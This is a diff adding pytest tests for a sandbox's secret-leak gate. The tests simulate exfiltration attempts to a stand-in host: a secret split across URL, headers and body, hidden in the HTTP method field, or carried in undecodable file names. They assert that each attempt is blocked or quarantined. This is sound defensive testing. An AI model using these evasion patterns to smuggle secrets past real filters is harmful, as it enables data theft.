@@ -9,7 +9,7 @@ import pytest
 
 from stockade import JavaScript, Policy, Sandbox
 from stockade.egress import GuestNetwork, Request, RequestFailed
-from stockade.gate import Gate, GateRules, GateRun, Given, quarantined_as
+from stockade.gate import Gate, GateRules, GateRun, Given, quarantined, quarantined_as
 from stockade.guests._language import _gated
 from stockade.guests._result import Frame
 from stockade.policy import HostRule, Network
@@ -159,6 +159,33 @@ def _mended() -> int:
     return 1
 
 
+def test_what_is_blocked_takes_with_it_what_was_kept_aside() -> None:
+    """The attack: a key in the output is kept aside, and the value has the secret, or the other way round."""
+    key, rules = b"password=hunt3r2 ", GateRules(registered="block", keys="quarantine")
+    for stdout, value in ((key, _SECRET), (_SECRET.encode(), key.decode())):
+        run = GateRun(Gate(rules, _SECRETS))
+        report = run.release(_report(stdout=stdout))
+        given = Given(value, (), {"a": b"b"})
+
+        report = run.release_given(report, given)
+
+        assert (given.value, given.files, report.outcome) == (None, {}, Outcome.DENIED)
+        assert report.quarantine == ""
+        assert quarantined() == []
+
+
+def test_a_file_with_a_name_that_is_no_text_is_kept_aside(tmp_path: Path) -> None:
+    """The attack: names that cannot be written down, so that nothing is kept, and the run ends in an error."""
+    given = Given(None, (), {"a\udcff": _SECRET.encode(), "a\\xff": b"2"})
+
+    report = GateRun(Gate(GateRules(registered="quarantine"), _SECRETS)).release_given(_report(), given)
+
+    kept = quarantined_as(report.quarantine)
+    assert kept.read("files/a\\xff") == _SECRET.encode()
+    assert kept.read("files/a\\xff (2)") == b"2"
+    assert len(kept.release(tmp_path / "out")) == 4
+
+
 def test_what_was_withheld_already_takes_the_rest_with_it() -> None:
     """The attack: the secret is in stdout alone, and the value tells the rest."""
     run = GateRun(Gate(GateRules(registered="quarantine"), _SECRETS))
@@ -206,6 +233,51 @@ def test_a_secret_that_is_split_among_headers_is_refused() -> None:
     headers = [("X-A", _SECRET[:9]), ("", _SECRET[9:17]), ("", _SECRET[17:])]
 
     assert not isinstance(_gate_run("redact").request("https://a.example/", headers, b""), tuple)
+
+
+_HALVES = _SECRET[:12], _SECRET[12:]
+
+
+@pytest.mark.parametrize("verdict", ["redact", "block"])
+@pytest.mark.parametrize(
+    ("url", "headers", "body"),
+    [
+        (f"https://a.example/?q={_HALVES[0]}", [], _HALVES[1].encode()),
+        (f"https://a.example/?q={_HALVES[0]}", [("X-A", "b")], _HALVES[1].encode() + b"." * 100_000),
+        (f"https://a.example/?q={_HALVES[0]}", [("X-A", "b"), ("X-B", _HALVES[1])], b"c"),
+        ("https://a.example/", [("X-A", _HALVES[0]), ("X-B", "c")], _HALVES[1].encode()),
+        ("https://a.example/", [("X-A", _HALVES[1]), ("X-B", "c")], b"." * 100_000 + _HALVES[0].encode()),
+        ("https://a.example/", [("X-A", _HALVES[0]), ("X-B", _HALVES[1])], b""),
+        ("https://a.example/", [(f"X-{_HALVES[0]}", "b"), (_HALVES[1], "c")], b""),
+    ],
+)
+def test_a_request_is_looked_at_as_one(verdict: str, url: str, headers: list[tuple[str, str]], body: bytes) -> None:
+    """The attack: a part of the secret is in the URL, and the rest in the body or a header of the same request."""
+    run = _gate_run(verdict)
+    refused = run.request(url, headers, body)
+
+    assert not isinstance(refused, tuple)
+    assert (refused.detector, refused.channel) == ("api", "request")
+    assert [finding.count for finding in run.release(_report()).findings] == [1]
+
+
+def test_a_method_passes_the_gate() -> None:
+    """The attack: a secret in the place of GET, which a policy that names no methods permits."""
+    for verdict in ("redact", "block"):
+        assert not isinstance(_gate_run(verdict).request("https://a.example/", [], b"", _SECRET), tuple)
+    assert isinstance(_gate_run("block").request("https://a.example/", [], b"", "GET"), tuple)
+
+
+@pytest.mark.parametrize("url", [f"https://a.example/?q={_SECRET}", f"HTTPS://A.example/a/../?q={_SECRET}"])
+def test_what_is_found_in_a_url_is_counted_once(url: str) -> None:
+    """Both as the guest wrote it and as it leaves, it is one."""
+    run = _gate_run("warn")
+    network = GuestNetwork(None, Policy(network=Network(mode="full")), lambda: 0.0, lambda: run)  # type: ignore[arg-type]
+
+    request = Request("GET", url, (("X-A", "b"),), b"c")
+    assert network._released(run, request) == request._replace(headers=[("X-A", "b")])
+
+    assert [(each.detector, each.count) for each in run.release(_report()).findings] == [("api", 1)]
 
 
 def test_a_request_without_a_secret_is_made_as_it_is() -> None:
